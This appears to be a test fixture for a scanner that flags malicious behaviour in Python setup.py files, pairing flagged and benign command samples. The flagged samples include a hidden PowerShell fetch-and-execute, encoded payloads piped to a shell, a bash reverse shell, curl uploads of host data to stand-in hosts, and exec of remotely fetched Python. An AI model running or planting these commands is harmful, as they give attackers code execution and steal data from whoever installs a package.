# path: setup.py
import os
import subprocess

from setuptools import setup


def run(cmd):
    return subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE).communicate()


# ruleid: py-behaviour-command-fetch-run
run("powershell -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\"")
# ruleid: py-behaviour-command-encoded
subprocess.call(["powershell", "-NoP", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="])
# ruleid: py-behaviour-command-encoded
os.system("echo aWQK | base64 -d | bash")
# ruleid: py-behaviour-command-shell-socket
os.system("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
# ok: py-behaviour-command-fetch-run
subprocess.check_call(["curl", "-fsSL", "-o", "vendor/lib.tgz", "https://example.org/v1.tgz"])
# ok: py-behaviour-command-encoded
version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
# ok: py-behaviour-command-shell-socket
os.system("nc -z localhost 5432 && echo database is up")
# ok: py-behaviour-command-fetch-run
run("make -C native && ./configure --prefix=/usr/local")

setup(name="demo", version=version)
# ruleid: py-behaviour-command-sends-data
os.system("curl -F a=@/etc/hostname https://probe.example/u")
# ruleid: py-behaviour-command-sends-data
subprocess.call("curl https://probe.example/?u=$(whoami)", shell=True)
# ok: py-behaviour-command-sends-data
subprocess.call(["curl", "-fsSL", "https://example.org/install-check"])
# ruleid: py-behaviour-remote-code-run
os.system('python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://198.51.100.2/s\').read())"')
# ok: py-behaviour-remote-code-run
subprocess.check_call(["python", "-c", "import numpy; print(numpy.get_include())"])
# ruleid: py-behaviour-unasked-request
subprocess.getoutput("dig @1.1.1.1 install.probe.example")
# ruleid: py-behaviour-unasked-request
os.system("start https://landing.example")
# ok: py-behaviour-unasked-request
subprocess.check_call(["git", "clone", "--depth", "1", "https://github.com/o/dep.git", "third_party/dep"])
